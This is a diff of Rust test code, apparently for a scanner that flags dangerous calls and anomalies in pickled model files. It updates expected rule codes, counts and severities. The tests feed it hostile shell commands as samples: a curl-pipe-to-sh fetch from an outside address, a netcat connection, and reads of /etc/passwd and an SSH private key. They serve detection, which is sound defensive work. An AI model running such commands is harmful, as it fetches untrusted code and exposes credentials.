@@ -102,7 +102,7 @@ fn rows_out_of_force_have_no_clauses_and_others_have() {
             None => {}
         }
     }
-    assert_eq!(planned, 95, "a planned rule came into force, or a rule fell back");
+    assert_eq!(planned, 94, "a planned rule came into force, or a rule fell back");
     assert_eq!(policy, ["S904", "S1001", "S1002"]);
 }
 
@@ -171,7 +171,7 @@ fn expect_nothing(fact: Fact<'_>) {
     assert_eq!(judge(&[fact]), []);
 }
 
-/// A global that STACK_GLOBAL names and `invoked_by` uses; nothing invoked it if that is empty.
+/// A global that `STACK_GLOBAL` names and `invoked_by` uses; nothing invoked it if that is empty.
 fn global<'a>(module: &'a str, function: &'a str, invoked_by: &'a str) -> Fact<'a> {
     with(module, function, invoked_by, "", "")
 }
@@ -208,8 +208,8 @@ fn paths_and_addresses_in_a_call_are_told() {
     let call = |call| with("posix", "system", "REDUCE", "", call);
     expect(call("posix.system('curl http://203.0.113.9/x | sh')"), "S101", Critical, "S201 S308 S309");
     expect(call("posix.system('nc 127.0.0.1 80; echo 1.2.3')"), "S101", Critical, "S201");
-    expect(call("posix.system('cat /etc/passwd')"), "S101", Critical, "S201 S408");
-    expect(call("posix.system('cat ~/.ssh/id_rsa')"), "S101", Critical, "S201 S409");
+    expect(call("posix.system('cat /etc/passwd')"), "S101", Critical, "S408 S201");
+    expect(call("posix.system('cat ~/.ssh/id_rsa')"), "S101", Critical, "S409 S201");
     expect(call("posix.system('cat models/etc/x ~/work')"), "S101", Critical, "S201");
 }
 
@@ -352,7 +352,7 @@ fn every_anomaly_of_a_structure_has_its_rule() {
         ("trailing-bytes", "S905", Low, ""),
         ("invalid-metadata", "S905", Low, ""),
         ("unknown-dtype", "S902", Low, ""),
-        ("missing-storage", "S902", Low, ""),
+        ("missing-storage", "S909", High, ""),
         ("second-format", "S907", Medium, ""),
         ("polyglot", "S908", High, ""),
         ("weights-only-unsafe", "S1101", High, ""),
